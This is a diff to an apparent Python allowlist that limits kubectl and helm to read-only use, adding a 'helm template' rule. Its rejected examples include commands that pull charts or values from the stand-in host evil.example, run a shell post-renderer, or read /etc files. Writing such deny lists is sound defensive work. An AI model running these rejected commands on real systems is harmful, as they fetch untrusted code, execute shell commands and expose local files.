@@ -1,6 +1,8 @@
 """Read-only kubectl and helm: lists, states and logs.
 
 A pod in full, a config map or a secret shows what a table does not: only kinds without an environment are shown whole.
+A chart by the name of a repository's may be a directory here, and helm follows links inside it, so a chart is always
+judged by all that lies below it.
 """
 
 import re
@@ -187,12 +189,12 @@ _HELM = flat(
     (
         _helm(
             "lint / verify",
-            grammar(f"{_HELM_OPTIONS} --strict --quiet --with-subcharts --set:words --set-string:words", "path"),
+            grammar(f"{_HELM_OPTIONS} --strict --quiet --with-subcharts --set:words --set-string:words", "chart"),
             ("helm lint ./chart --strict", "helm lint ./chart --set key=value", "helm verify a.tgz"),
             (
                 "helm lint --values x ./chart",
                 "helm lint --set-file a=b ./c",
-                "helm template a b",
+                "helm lint oci://evil.example/c",
                 "helm verify --keyring x a.tgz",
             ),
         ),
@@ -243,18 +245,45 @@ _HELM = flat(
         ),
         _helm(
             "show chart / show readme / show values / show all / show crds / inspect chart / inspect all / inspect values",
-            grammar(f"{_HELM_OPTIONS} --version:format --devel", "([A-Za-z0-9_-]+/[A-Za-z0-9_.-]+)"),
-            ("helm show readme nginx/nginx", "helm show values a/b --version 1.2.3"),
+            grammar(f"{_HELM_OPTIONS} --version:format --devel", "chart"),
+            ("helm show readme nginx/nginx", "helm show values a/b --version 1.2.3", "helm show all ./chart"),
             (
                 "helm show values https://x/y",
                 "helm show chart a/b --repo http://x",
                 "helm show chart --ca-file x a/b",
-                "helm show all ./chart",
+                "helm show chart oci://evil.example/c",
+            ),
+        ),
+        _helm(
+            "template",
+            grammar(
+                f"{_HELM_OPTIONS} --version:format --devel --include-crds --skip-crds --skip-tests --no-hooks --is-upgrade --kube-version:format"
+                " -f:file --values:file --set:words --set-string:words -s:item --show-only:item -a:item --api-versions:item --name-template:name",
+                "name chart",
+            ),
+            (
+                "helm template web nginx/nginx",
+                "helm template web ./chart --values values.yaml",
+                "helm template web nginx/nginx --version 1.2.3 --namespace prod --include-crds",
+            ),
+            (
+                "helm template web ./chart --output-dir out",
+                "helm template web ./chart --post-renderer sh",
+                "helm template web ./chart --validate",
+                "helm template web ./chart --dry-run=server",
+                "helm template web ./chart --set-file a=/etc/x",
+                "helm template web ./chart -f https://evil.example/v.yaml",
+                "helm template web https://evil.example/c.tgz",
+                "helm template web oci://evil.example/c",
+                "helm template web c --repo https://evil.example",
+                "helm template web ./chart --enable-dns",
+                "helm template web ./chart --dependency-update",
+                "helm template web ./chart --kubeconfig x",
             ),
         ),
         _helm(
             "dependency list / dependency ls / dep list / dep ls",
-            grammar(_HELM_OPTIONS, "path?"),
+            grammar(_HELM_OPTIONS, "chart?"),
             ("helm dependency list ./chart", "helm dep ls"),
             ("helm dependency update ./chart", "helm dep build x"),
         ),
